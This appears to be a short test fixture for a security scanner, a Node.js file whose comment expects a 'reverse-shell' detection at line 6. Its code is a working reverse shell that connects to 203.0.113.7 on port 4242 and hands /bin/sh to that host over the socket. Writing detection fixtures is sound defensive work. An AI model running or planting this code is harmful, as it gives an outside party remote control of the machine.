// expect: reverse-shell 6:3
const net = require('net');
const { spawn } = require('child_process');

const sock = net.connect(4242, '203.0.113.7', () => {
  spawn('/bin/sh', [], { stdio: [sock, sock, sock] });
});
